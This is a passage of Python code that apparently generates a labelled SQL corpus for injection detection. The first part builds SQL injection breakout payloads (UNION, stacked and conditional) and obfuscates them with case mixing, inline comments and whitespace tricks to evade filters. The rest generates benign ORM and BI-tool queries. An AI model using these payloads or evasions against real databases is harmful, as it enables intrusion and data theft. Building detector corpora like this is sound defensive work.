            lv = lv + qc + " AND " + qc + orig
        if mode == "open":
            if typ == "d" or cl:
                return None
            return lv + qc + " " + core[0] + core[1]
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + qc + " || " + core + " || " + qc
            j = r.choice(["||", " || ", "||", " ||"])
            return r.choice([lv, ""]) + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            if si["cond_cut"] is not None:
                return lv + qc + si["cond_cut"] + " " + core + sp() + ending(r)
            if r.random() < 0.35 and typ != "d" and "]" not in inner:
                ww = rword(r, r.randint(1, 3))
                bal = r.choice(["'%s'='%s" % (ww, ww), "'%s' ~ '%s" % (ww, ww[0]), "'%s' IS DISTINCT FROM '" % ww, "'%s' ^@ '%s" % (ww, ww[0]), "'%s'<>'" % ww])
                return lv + qc + inner + " " + core + " AND " + "(" * len(inner) + bal
            return lv + qc + (close_all if r.random() < 0.3 else inner) + " " + core + sp() + ending(r)
        if mode == "union":
            return r.choice([lv, "", "-1", "nomatch"]) + qc + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            return lv + qc + close_all + r.choice([";", "; ", ";\n", ";  "]) + core + r.choice([";", "", ""]) + sp() + ending(r)
        return None
    if typ == "qi":
        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
    if typ in ("n", "list"):
        if mode == "open":
            return None
        if mode == "repl":
            return core if typ != "list" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            return orig + r.choice([" - 0*octet_length(%s)", " + coalesce(length(%s), 0)*0", " * sign(1 + length(%s))", " + (SELECT 0 FROM (SELECT %s) z)"]).replace("%s", "(" + core + ")")
        if mode == "order":
            return orig + ", " + core if si["in_order"] else None
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            orig = orig + " AND " + r.choice(["32767", "1e6", "9999"])
        if mode == "cond":
            if si["cond_cut"] is not None:
                return orig + si["cond_cut"] + " " + core + sp() + ending(r)
            if inner and "]" not in inner and r.random() < 0.55:
                v = r.randint(1, 99)
                return orig + inner + " " + core + " AND " + "(" * len(inner) + r.choice(["%d=%d" % (v, v), "true", "%d IS NOT NULL" % v])
            if cl:
                return orig + (close_all if r.random() < 0.35 else inner) + " " + core + sp() + ending(r)
            return orig + " " + core + (sp() + ending(r) if si["tail_means"] and r.random() < 0.6 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "-%d" % r.randint(1, 999)]) + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            tail = sp() + ending(r) if close_all or si["tail_means"] or r.random() < 0.5 else ""
            return orig + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([";", ""]) + tail
        return None
    if typ in ("col", "dir"):
        if mode == "order":
            return (core if typ == "col" and r.random() < 0.35 else orig + ", " + core) + (sp() + ending(r) if r.random() < 0.3 else "")
        if mode == "cond" and si["in_order"]:
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + sp() + ending(r)
        return None
    if typ == "ident" and mode == "stack":
        return orig + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([" --", "--", ";--", "; -- x", ""])
    return None


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat"), "e": ("cond", "open", "union", "stack", "repl", "concat"),
         "d": ("cond", "union", "stack", "repl", "concat"), "qi": ("cond", "stack", "order"), "n": ("cond", "union", "stack", "repl", "concat", "order"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}


hand = partial(corpus_kit.hand_payload, cores=hand_cores, fitting=partial(corpus_kit.fitting, modes=MODES), breakout=breakout)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.upper() if j % 2 == 0 else c.lower() for j, c in enumerate(w))
            if style == 1:
                return "".join(c.lower() if j % 2 == 0 else c.upper() for j, c in enumerate(w))
            if style == 2:
                return w[:-1].lower() + w[-1].upper()
            if style == 3:
                return w[:2].upper() + w[2:].lower()
            return "".join(c.upper() if r.random() < 0.3 else c.lower() for c in w)
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "\f", "\t\t\t", "\n\n", " \t ", "\r\r", "\t\n\t", "  \f"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"(=|<>|>=|<=|>|<)", lambda m: r.choice(["\t", "\n", " "]) + m.group(1) + r.choice(["\t", "\n", " "]) if r.random() < 0.35 else m.group(1), t)
            return re.sub(r",", lambda m: ",\n" if r.random() < 0.3 else ",", t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/*1*/", "/*ab*/", "/**//**/", "/*\t*/", "/*!*/", "/*x\ny*/", "/* -- */", "/*;*/", "/*&q=*/", "/*%s*/" % rword(r, r.randint(1, 4))]
        hpp = r.random() < 0.15

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"(=|\|\|)", lambda m: "/**/" + m.group(1) + "/**/" if r.random() < 0.3 else m.group(1), t)
            if hpp:
                t = re.sub(r"\b(UNION|SELECT|FROM|union|select|from)\b", lambda m: m.group(1) + "/*&id=*/", t)
            return t
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|WHEN|when|THEN|then|ELSE|else|SELECT|select) (\d+|true|false|null|NULL|current_user|session_user)\b",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(FROM|from|JOIN|join) ([a-z_]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if r.random() < 0.5 else m.group(0), t)
            t = re.sub(r"\b(OR|AND|or|and) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Siobhán O'Loughlin", "Ingrid Solberg", "Rangi Parata", "Amara Nwosu", "Kenji Watanabe", "Dervla Ní Bhriain", "Tomás Ferreira",
          "Yusuf Demir", "Annika Lindqvist", "Priyanka Menon", "Lachlan McKenzie", "Océane Marchand", "Hemi Walker", "Zofia Kowalczyk"]
NOTES = ["stamper 3 worn at the run-out", "client wants \"no logo\" on the sleeve", "re-plate side B", "convoy held at km 172", "deposit paid -- ref 8812",
         "O'Brien will collect the shell", "10% guild discount", "fragile: contains a hat block", "awaiting curator's sign-off", "re-dip after oxidation",
         "update: mat 5 replaced", "leave at the tower's north door", "ring only after 10:00 on Sundays", "contains 3 x hazmat class 9"]
SPECIES = ["red fox", "pine marten", "badger", "roe deer", "wild boar", "lynx", "otter", "red squirrel"]
TREES = ["Acer saccharum", "Tilia cordata", "Quercus rubra", "Ginkgo biloba", "Platanus x acerifolia", "Gleditsia triacanthos", "Ulmus americana"]
TOWERS = ["England.Oxford.Berkshire", "England.Norwich.Norfolk", "England.Exeter.Devon", "Wales.StDavids.Pembroke", "England.York.NorthYorkshire"]
COLOURWAYS = ["Heather Moor", "Tidepool", "Lichen", "Ember", "Sloe Gin", "Kelp Forest", "Peat Smoke"]
GAMES = ["Carcassonne", "Ticket to Ride", "Gloomhaven", "Azul", "Wingspan", "Root", "Spirit Island", "Codenames", "Terraforming Mars"]


def vec(r, n=None):
    return q(vector_literal(r, n))


def pt(r):
    return r.uniform(-120, 30), r.uniform(35, 65)


def ewkb_point(x, y):
    """GeoDjango's literal for a point: EWKB with SRID 4326, as a bytea hex string."""
    return "'\\x" + (struct.pack("<BII", 1, 0x20000001, 4326) + struct.pack("<dd", x, y)).hex() + "'::bytea"


def mig_version(r):
    return rdate(r, 2023, 2025).replace("-", "") + "%02d%02d%02d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def complex_gens():
    G, add = registry()

    # ---- ORM and API-layer output of the stacks above
    @add("cx15_django_icontains", "complex_orm_generated")
    def _(r):
        return ('SELECT "ocular_patient"."id", "ocular_patient"."display_name", "ocular_patient"."clinic_id" FROM "ocular_patient" WHERE ("ocular_patient"."clinic_id" = %d '
                'AND UPPER("ocular_patient"."display_name"::text) LIKE UPPER(%s)) ORDER BY "ocular_patient"."display_name" ASC LIMIT 21'
                % (r.randint(1, 30), q("%" + r.choice(["sol", "okaf", "ní", "marg", "o'r"]) + "%")))

    @add("cx15_django_trigram", "complex_orm_generated")
    def _(r):
        g = r.choice(GAMES)
        return ('SELECT "cafe_games"."game_id", "cafe_games"."title", SIMILARITY("cafe_games"."title", %s) AS "similarity" FROM "cafe_games" '
                'WHERE SIMILARITY("cafe_games"."title", %s) > 0.%d ORDER BY "similarity" DESC LIMIT 10' % (q(g[:r.randint(4, len(g))]), q(g[:5]), r.randint(1, 5)))

    @add("cx15_geodjango_dwithin", "complex_orm_generated")
    def _(r):
        x, y = pt(r)
        return ('SELECT "forestry_streettree"."id", "forestry_streettree"."species", "forestry_streettree"."geom"::bytea FROM "forestry_streettree" '
                'WHERE ST_DWithin("forestry_streettree"."geom", ST_GeomFromEWKB(%s), %s) ORDER BY "forestry_streettree"."id" ASC' % (ewkb_point(x, y), r.choice(["0.001", "0.005", "50.0"])))

    @add("cx15_django_annotate", "complex_orm_generated")
    def _(r):
        return ('SELECT "ocular_fitting"."practitioner", COUNT("ocular_fitting"."id") AS "n" FROM "ocular_fitting" WHERE "ocular_fitting"."fitted_on" >= %s::date '
                'GROUP BY "ocular_fitting"."practitioner" HAVING COUNT("ocular_fitting"."id") > %d ORDER BY "n" DESC' % (q(rdate(r, 2023, 2025)), r.randint(1, 20)))

    @add("cx15_rails_activerecord", "complex_orm_generated")
    def _(r):
        return r.choice([
            'SELECT "anchors".* FROM "anchors" WHERE "anchors"."building_id" = $1 AND "anchors"."retired_at" IS NULL ORDER BY "anchors"."id" ASC LIMIT $2',
            'SELECT 1 AS one FROM "rope_techs" WHERE "rope_techs"."irata_no" = $1 LIMIT $2',
            'INSERT INTO "anchor_inspections" ("anchor_id", "result", "inspected_on", "created_at", "updated_at") VALUES ($1, $2, $3, $4, $5) RETURNING "id"',
            'UPDATE "anchors" SET "updated_at" = $1, "lock_version" = $2 WHERE "anchors"."id" = $3 AND "anchors"."lock_version" = $4',
            'SELECT "rope_techs".* FROM "rope_techs" WHERE "rope_techs"."id" IN (%s)' % ids(r, hi=600),
            'SELECT COUNT(*) FROM "anchor_inspections" WHERE "anchor_inspections"."anchor_id" = %d AND "anchor_inspections"."result" = %s' % (r.randint(1, 5000), q(r.choice(["pass", "fail", "retest"])))])

    @add("cx15_hasura_query", "complex_orm_generated")
    def _(r):
        col, d = r.choice(["name", "region", "level"]), r.choice(["ASC", "DESC"])
        return ('SELECT coalesce(json_agg("root" ORDER BY "root.pg.%s" %s NULLS LAST), \'[]\') AS "root" FROM (SELECT row_to_json((SELECT "_e" FROM (SELECT "_root.base"."id" AS "id", '
                '"_root.base"."%s" AS "%s") AS "_e")) AS "root", "_root.base"."%s" AS "root.pg.%s" FROM (SELECT * FROM "public"."interpreters" WHERE (("public"."interpreters"."active") = ($1)) '
                'ORDER BY "%s" %s NULLS LAST LIMIT %d) AS "_root.base") AS "_root"' % (col, d, col, col, col, col, col, d, r.choice([10, 20, 50])))

    @add("cx15_hasura_mutation", "complex_orm_generated")
    def _(r):
        return ('WITH "interpreting_bookings__mutation_result_alias" AS (INSERT INTO "public"."interpreting_bookings" ("client", "modality", "starts_at") VALUES ($1, $2, $3) RETURNING *, (\'true\')::boolean AS "check__constraint"), '
                '"interpreting_bookings__all_columns_alias" AS (SELECT "id", "client", "modality", "starts_at", "check__constraint" FROM "interpreting_bookings__mutation_result_alias") '
                'SELECT json_build_object(\'affected_rows\', (SELECT COUNT(*) FROM "interpreting_bookings__all_columns_alias"), \'returning\', (SELECT coalesce(json_agg("root"), \'[]\') '
                'FROM (SELECT json_build_object(\'id\', "_root.base"."id") AS "root" FROM "interpreting_bookings__all_columns_alias" AS "_root.base") AS "_root")), '
                '(SELECT coalesce(bool_and("check__constraint"), \'true\') FROM "interpreting_bookings__all_columns_alias")')

    @add("cx15_postgrest_prerequest", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select set_config('search_path', $1, true), set_config('role', $2, true), set_config('request.jwt.claims', $3, true), set_config('request.method', $4, true), "
            "set_config('request.path', $5, true), set_config('request.headers', $6, true), set_config('request.cookies', $7, true)",
            'WITH pgrst_source AS (SELECT "public"."lookout_towers".* FROM "public"."lookout_towers" WHERE "public"."lookout_towers"."elevation_m" >= $1 ORDER BY "public"."lookout_towers"."name" ASC LIMIT %d OFFSET %d)%s'
            % (r.choice([10, 25, 100]), r.choice([0, 25, 50]), PGRST_TAIL),
            'WITH pgrst_source AS (SELECT pgrst_call.* FROM "public"."fire_danger"("district" := $1) pgrst_call) SELECT null::bigint AS total_result_set, 1 AS page_total, '
            'coalesce(json_agg(_postgrest_t.pgrst_scalar)->0, \'null\') AS body FROM (SELECT "fire_danger".*::"public"."fire_danger_rating" AS pgrst_scalar FROM pgrst_source AS "fire_danger") _postgrest_t'])

    @add("cx15_jooq_inline", "complex_orm_generated")
    def _(r):
        return ('select "hat_blocks"."block_id", "hat_blocks"."crown_shape" from "hat_blocks" where ("hat_blocks"."head_cm" > cast(%s as numeric) and "hat_blocks"."crown_shape" in (%s)) '
                'order by "hat_blocks"."head_cm" desc fetch next %d rows only' % ("%d.%d" % (r.randint(52, 60), r.randint(0, 9)), ", ".join(q(x) for x in r.sample(["teardrop", "pork pie", "pinch front", "telescope", "cloche"], 2)), r.choice([10, 20])))

    @add("cx15_seaorm_select", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT "dye_lots"."id", "dye_lots"."lot_code", "dye_lots"."colourway", "dye_lots"."dyed_on" FROM "dye_lots" WHERE "dye_lots"."colourway" = $1 ORDER BY "dye_lots"."dyed_on" DESC LIMIT $2',
                         'INSERT INTO "dye_lots" ("lot_code", "colourway", "recipe", "dyed_on") VALUES ($1, $2, $3, $4) RETURNING "id"',
                         'UPDATE "dye_vats" SET "temp_c" = $1 WHERE "dye_vats"."vat_no" = $2',
                         'SELECT COUNT(*) AS num_items FROM (SELECT "yarn_skeins"."skein_id" FROM "yarn_skeins" WHERE "yarn_skeins"."colourway" = %s) AS "sub_query"' % q(r.choice(COLOURWAYS))])

    @add("cx15_dbal_querybuilder", "complex_orm_generated")
    def _(r):
        return r.choice(["SELECT g.game_id, g.title, g.min_players FROM cafe_games g WHERE (g.min_players <= $1) AND (g.max_players >= $2) ORDER BY g.title ASC LIMIT %d OFFSET %d" % (r.choice([12, 24]), r.choice([0, 12, 24])),
                         "UPDATE cafe_members SET loyalty_stamps = loyalty_stamps + 1 WHERE member_id = $1",
                         "INSERT INTO table_bookings (table_no, member_id, during) VALUES ($1, $2, tstzrange($3, $4))"])

    @add("cx15_knex_builder", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 4)
        return r.choice(['select "order_id", "label_name", "copies" from "pressing_orders" where "status" in (%s) order by "due_on" asc limit $%d' % (", ".join("$%d" % (i + 1) for i in range(n)), n + 1),
                         'insert into "test_pressings" ("catalogue_no", "notes", "verdict") values ($1, $2, $3) returning "test_id"',
                         'update "stampers" set "pressings" = "pressings" + $1 where "stamper_id" = $2'])

    @add("cx15_mojo_pg_abstract", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT * FROM "ringing_towers" WHERE ( "bells" >= $1 AND "diocese_path" <@ $2 ) ORDER BY "dedication"',
                         'INSERT INTO "peal_records" ( "tower_id", "method_name", "changes", "rung_on") VALUES ( $1, $2, $3, $4 ) RETURNING *',
                         'SELECT "method_name", "stage" FROM "ringing_methods" WHERE "stage" = %d ORDER BY "method_name" LIMIT %d' % (r.choice([6, 8, 10, 12]), r.choice([20, 50]))])

    @add("cx15_dataset_sqlalchemy", "complex_orm_generated")
    def _(r):
        return r.choice(["SELECT specimen_loans.loan_id, specimen_loans.borrower_institution, specimen_loans.due_back FROM specimen_loans WHERE specimen_loans.borrower_institution = %s ORDER BY specimen_loans.due_back LIMIT %d OFFSET 0"
                         % (q(r.choice(["Kew (K)", "Naturalis (L)", "Edinburgh (E)", "Paris (P)"])), r.choice([100, 1000])),
                         "INSERT INTO herbarium_sheets (barcode, collector, taxon_path) VALUES (%s, %s, %s) RETURNING herbarium_sheets.sheet_id"
                         % (q("E%08d" % r.randint(0, 10 ** 8)), q(r.choice(PEOPLE)), q(r.choice(["Plantae.Rosaceae.Prunus", "Plantae.Fagaceae.Quercus"]))),
                         "SELECT count(*) AS count_1 FROM herbarium_sheets WHERE herbarium_sheets.collected_year >= %d" % r.randint(1800, 2000)])

    # ---- query builders and BI tools
    @add("cx15_superset_chart", "complex_query_builder")
    def _(r):
        return ("SELECT DATE_TRUNC('%s', captured_at) AS __timestamp, species AS species, COUNT(*) AS count FROM public.trap_detections WHERE captured_at >= TO_TIMESTAMP('%s 00:00:00.000000', 'YYYY-MM-DD HH24:MI:SS.US') "
                "AND captured_at < TO_TIMESTAMP('%s 00:00:00.000000', 'YYYY-MM-DD HH24:MI:SS.US') GROUP BY species, DATE_TRUNC('%s', captured_at) ORDER BY count DESC LIMIT %d"
                % ((lambda g: (g, rdate(r, 2023, 2024), rdate(r, 2025, 2025), g, r.choice([10000, 50000])))(r.choice(["day", "week", "month"]))))

    @add("cx15_metabase_mbql", "complex_query_builder")
    def _(r):
        return ('SELECT "public"."street_trees"."ward" AS "ward", avg("public"."street_trees"."dbh_cm") AS "avg" FROM "public"."street_trees" WHERE ("public"."street_trees"."species" = %s '
                'OR "public"."street_trees"."species" = %s) GROUP BY "public"."street_trees"."ward" ORDER BY "public"."street_trees"."ward" ASC' % tuple(q(x) for x in r.sample(TREES, 2)))

    @add("cx15_grafana_timeseries", "complex_query_builder")
    def _(r):
        d = rdate(r, 2024, 2025)
        return ("SELECT time_bucket('%s', crossed_at) AS \"time\", mat_id::text AS metric, count(*) AS value FROM chip_crossings WHERE crossed_at BETWEEN '%sT07:00:00Z' AND '%sT15:00:00Z' "
                "AND race_id = %d GROUP BY 1, 2 ORDER BY 1" % (r.choice(["30s", "1m", "2m", "5m"]), d, d, r.randint(1, 40)))

    @add("cx15_redash_param", "complex_query_builder")
    def _(r):
        return ("SELECT r.full_name, s.best_200m_ms, s.meet_id FROM sprint_qualifying s JOIN track_riders r USING (rider_id) WHERE s.meet_id IN (%s) AND r.category = %s ORDER BY s.best_200m_ms LIMIT %d"
                % (ids(r, hi=200), q(r.choice(["Elite Men", "Elite Women", "U17 Women", "Masters 40+"])), r.choice([8, 16, 32])))

    @add("cx15_knex_raw_bindings", "complex_query_builder")
    def _(r):
        return r.choice(['select "lacquer_id", "catalogue_no" from "lacquer_masters" where "press_line" = $1 order by "audio_embedding" <=> $2 limit $3',
                         'select "blend_code" from "vinyl_colour_blends" where "pellet_mix" ? $1',
                         'select count(*) as "n" from "pressing_orders" where "due_on" between $1 and $2'])

    @add("cx15_sqlx_go_builder", "complex_query_builder")
    def _(r):
        n = r.randint(1, 5)
        return "SELECT truck_id, driver_name FROM convoy_positions WHERE road_id = $1 AND truck_id IN (%s) AND ST_DWithin(position::geography, ST_MakePoint($%d, $%d)::geography, $%d)" % (
            ", ".join("$%d" % (i + 2) for i in range(n)), n + 2, n + 3, n + 4)

    @add("cx15_jooq_builder", "complex_query_builder")
    def _(r):
        return ('select "trims"."trim_id", "trims"."material", "trims"."width_mm" from "trims" where ("trims"."width_mm" between $1 and $2 and "trims"."material" ilike $3 escape \'!\') order by "trims"."%s" %s'
                % (r.choice(["width_mm", "material", "trim_id"]), r.choice(["asc", "desc"])))

    # ---- extension and built-in functions
    @add("cx15_builtin_pgvector", "complex_builtin_funcs")
    def _(r):
        a, b = vec(r, 3), vec(r, 3)
        return r.choice(["SELECT %s::vector <-> %s::vector AS l2, %s::vector <=> %s::vector AS cosine, %s::vector <#> %s::vector AS neg_inner" % (a, b, a, b, a, b),
                         "SELECT l2_distance(%s::vector, %s::vector), cosine_distance(%s::vector, %s::vector), inner_product(%s::vector, %s::vector)" % (a, b, a, b, a, b),
                         "SELECT vector_dims(%s::vector), round(vector_norm(%s::vector)::numeric, 4)" % (a, b),
                         "SELECT avg(v), sum(v) FROM unnest(ARRAY[%s::vector, %s::vector]) AS v" % (a, b),
                         "SELECT %s::vector + %s::vector, %s::vector - %s::vector, %s::vector * %s::vector" % (a, b, a, b, a, b),
                         "SELECT %s::vector::real[], ARRAY[%s]::vector" % (a, ", ".join("%.2f" % r.uniform(-1, 1) for _ in range(3)))])

    @add("cx15_builtin_trgm", "complex_builtin_funcs")
    def _(r):
        a, b = q(r.choice(GAMES + SPECIES)), q(r.choice(GAMES + SPECIES))
        return r.choice(["SELECT show_trgm(%s)" % a, "SELECT similarity(%s, %s), word_similarity(%s, %s), strict_word_similarity(%s, %s)" % (a, b, a, b, a, b),
                         "SELECT %s %% %s AS similar, %s <-> %s AS distance, %s <<-> %s AS word_distance" % (a, b, a, b, a, b),
                         "SELECT show_limit(), %s <%% %s, %s %%> %s" % (a, b, a, b)])

    @add("cx15_builtin_postgis", "complex_builtin_funcs")
    def _(r):
        x, y = pt(r)
        wkt = q("POINT(%.4f %.4f)" % (x, y))
        return r.choice(["SELECT ST_AsText(ST_Buffer(ST_GeomFromText(%s, 4326), 0.0%d, 'quad_segs=4'))" % (wkt, r.randint(1, 9)),
                         "SELECT ST_Distance(ST_GeomFromText(%s, 4326)::geography, ST_MakePoint(%.4f, %.4f)::geography)" % (wkt, x + 0.01, y - 0.01),
                         "SELECT ST_GeoHash(ST_SetSRID(ST_MakePoint(%.5f, %.5f), 4326), %d)" % (x, y, r.randint(5, 10)),
                         "SELECT ST_AsGeoJSON(ST_MakeEnvelope(%.3f, %.3f, %.3f, %.3f, 4326))" % (x, y, x + 0.5, y + 0.5),
                         "SELECT ST_Area(ST_Transform(ST_MakeEnvelope(%.3f, %.3f, %.3f, %.3f, 4326), 3857))" % (x, y, x + 0.1, y + 0.1),
                         "SELECT ST_X(ST_Centroid(%s::geometry)), ST_Y(ST_Centroid(%s::geometry))" % ((lambda w: (w, w))(q("LINESTRING(%.2f %.2f, %.2f %.2f)" % (x, y, x + 1, y + 1))))])

    @add("cx15_builtin_hstore", "complex_builtin_funcs")
    def _(r):
        h = q("%s=>%d, %s=>%s" % (r.choice(["brim_mm", "head_cm", "pit_type"]), r.randint(1, 99), r.choice(["owner", "finish"]), r.choice(["city", "matte", "NULL"])))
        return r.choice(["SELECT akeys(%s::hstore), avals(%s::hstore)" % (h, h), "SELECT hstore_to_json(%s::hstore), hstore_to_jsonb_loose(%s::hstore)" % (h, h),
                         "SELECT * FROM each(%s::hstore) ORDER BY key" % h, "SELECT %s::hstore || 'extra=>1'::hstore, %s::hstore - 'owner'::text" % (h, h),
                         "SELECT slice(%s::hstore, ARRAY['owner', 'brim_mm']), exist(%s::hstore, 'finish')" % (h, h),
                         "SELECT hstore(ARRAY['bells', 'tenor_cwt'], ARRAY['%d', '%d'])" % (r.choice([6, 8, 10, 12]), r.randint(5, 40))])

    @add("cx15_builtin_ltree", "complex_builtin_funcs")
    def _(r):
        p = q(r.choice(TOWERS))
        return r.choice(["SELECT subpath(%s::ltree, 0, 2), nlevel(%s::ltree), ltree2text(subltree(%s::ltree, 1, 2))" % (p, p, p),
                         "SELECT lca(%s::ltree, %s::ltree)" % (p, q(r.choice(TOWERS))), "SELECT text2ltree(%s) @> %s::ltree" % (q(r.choice(TOWERS).rsplit(".", 1)[0]), p),
                         "SELECT index(%s::ltree, 'Oxford'), %s::ltree ~ '*.Devon'::lquery" % (p, p), "SELECT %s::ltree || 'Tower%d'::ltree" % (p, r.randint(1, 99))])

    @add("cx15_builtin_fts_jsonpath", "complex_builtin_funcs")
    def _(r):
        txt = q(r.choice(SENTS))
        return r.choice(["SELECT ts_headline('english', %s, websearch_to_tsquery('english', %s), 'MaxWords=12, MinWords=4')" % (txt, q(r.choice(["convoy", "stamper", "smoke", "peal"]))),
                         "SELECT tsvector_to_array(to_tsvector('english', %s)), setweight(to_tsvector('simple', %s), 'B')" % (txt, q(r.choice(COLOURWAYS))),
                         "SELECT jsonb_path_query_array(%s::jsonb, '$.steps[*] ? (@.temp_c > %d).dye')" % (q('{"steps": [{"dye": "indigo", "temp_c": %d}, {"dye": "weld", "temp_c": %d}]}' % (r.randint(20, 95), r.randint(20, 95))), r.randint(30, 80)),
                         "SELECT %s::jsonb @? '$.layers[*] ? (@.pigment == \"cobalt\")', %s::jsonb @@ '$.layers.size() > 1'" % ((lambda j: (j, j))(q('{"layers": [{"pigment": "cobalt"}, {"pigment": "umber"}]}')))])

    @add("cx15_builtin_time_arrays", "complex_builtin_funcs")
    def _(r):
        return r.choice(["SELECT time_bucket('%s', %s::timestamptz), time_bucket('1 day', %s::timestamptz, 'Europe/Oslo')" % (r.choice(["15 minutes", "1 hour", "1 week"]), q(ts(r) + "+00"), q(ts(r) + "+00")),
                         "SELECT s.i, (ARRAY[%s])[s.i] FROM generate_subscripts(ARRAY[%s], 1) AS s(i)" % ((lambda l: (l, l))(ids(r, 4, 99))),
                         "SELECT array_positions(ARRAY[%s], %d), width_bucket(%d, ARRAY[0, 20, 40, 80, 120])" % (ids(r, 6, 9), r.randint(1, 9), r.randint(0, 150)),
                         "SELECT justify_interval(interval '%d hours'), date_bin('15 minutes', %s::timestamp, '2000-01-01')" % (r.randint(25, 900), q(ts(r))),
                         "SELECT 'ABC'::citext = 'abc', lower(%s::citext), strpos(%s::citext, 'A')" % (q(r.choice(PEOPLE)), q(r.choice(GAMES)))])

    # ---- comments and hints
    @add("cx15_comment_metabase", "complex_comments_hints")
    def _(r):
        return ("-- Metabase:: userID: %d queryType: %s queryHash: %064x\nSELECT \"public\".\"street_trees\".\"ward\" AS \"ward\", count(*) AS \"count\" FROM \"public\".\"street_trees\" "
                "GROUP BY \"public\".\"street_trees\".\"ward\" ORDER BY \"count\" DESC LIMIT %d" % (r.randint(1, 90), r.choice(["MBQL", "native"]), r.getrandbits(256), r.choice([2000, 1048575])))

    @add("cx15_comment_redash", "complex_comments_hints")
    def _(r):
        return ("/* Username: %s, Query ID: %d, Queue: %s, Job ID: %08x-%04x-%04x-%04x-%012x, Query Hash: %032x, Scheduled: %s */ SELECT rider, min(lap_ms) FROM track_laps WHERE session_id = %d GROUP BY rider"
                % (r.choice(["timing@velodrome.example", "coach@velodrome.example", "ops@velodrome.example"]), r.randint(1, 900), r.choice(["queries", "scheduled_queries"]),
                   r.getrandbits(32), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(48), r.getrandbits(128), r.choice(["True", "False"]), r.randint(1, 9000)))

    @add("cx15_comment_dbt_header", "complex_comments_hints")
    def _(r):
        model = r.choice(["stg_trees", "fct_work_orders", "dim_wards"])
        return ('/* {"app": "dbt", "dbt_version": "1.%d.%d", "profile_name": "forestry", "target_name": "prod", "node_id": "model.forestry.%s"} */\n'
                'create view "analytics"."%s__dbt_tmp" as (select tree_id, species, ward, dbh_cm from "raw"."street_trees" where dbh_cm > 0)' % (r.randint(5, 8), r.randint(0, 9), model, model))

    @add("cx15_comment_rails_querylog", "complex_comments_hints")
    def _(r):
        return ('SELECT "anchors".* FROM "anchors" WHERE "anchors"."building_id" = %d /*application=\'RopeAccess\',controller=\'%s\',action=\'%s\'*/'
                % (r.randint(1, 2000), r.choice(["anchors", "inspections", "buildings"]), r.choice(["index", "show", "export"])))

    @add("cx15_comment_sqlcommenter_django", "complex_comments_hints")
    def _(r):
        return ('SELECT "ocular_shell"."id" FROM "ocular_shell" WHERE "ocular_shell"."patient_id" = %d '
                '/*controller=\'%s\',db_driver=\'django.db.backends.postgresql\',framework=\'django%%3A4.2.%d\',route=\'%%5Eshells%%2F%%3Cint%%3Apk%%3E%%2F%%24\'*/'
                % (r.randint(1, 9000), r.choice(["shell_detail", "shell_list"]), r.randint(1, 16)))

    @add("cx15_comment_hint_knn", "complex_comments_hints")
    def _(r):
        return "/*+ IndexScan(f %s) */ SELECT f.frame_id FROM trap_frames f ORDER BY f.clip_embedding <-> %s LIMIT %d" % (
            r.choice(["trap_frames_clip_hnsw", "trap_frames_clip_ivfflat"]), vec(r, 4), r.randint(5, 50))

    @add("cx15_comment_user_lines", "complex_comments_hints")
    def _(r):
        return ("-- %s\n-- owner: %s\nSELECT species, count(*) AS n\nFROM trap_detections -- all stations\nWHERE captured_at >= %s\nGROUP BY species\nORDER BY n DESC"
                % (r.choice(["weekly detections", "fox vs marten", "don't run on the primary"]), r.choice(["ecology team", "R. Parata", "ops"]), q(rdate(r, 2024, 2025))))

    @add("cx15_comment_trailing_block", "complex_comments_hints")
    def _(r):
        return "SELECT tower_id, dedication FROM ringing_towers WHERE bells = %d /* %s */" % (r.choice([6, 8, 10, 12]), r.choice(NOTES).replace("*/", ""))

    # ---- CTEs and windows
    @add("cx15_cte_cycle_heats", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE heat_path(heat_id, feeds_into, depth) AS (SELECT heat_id, feeds_into, 0 FROM keirin_heats WHERE round = %d UNION ALL SELECT k.heat_id, k.feeds_into, c.depth + 1 "
                "FROM keirin_heats k JOIN heat_path c ON k.heat_id = c.feeds_into) SEARCH DEPTH FIRST BY heat_id SET ord CYCLE heat_id SET looped USING trail SELECT * FROM heat_path WHERE NOT looped ORDER BY ord"
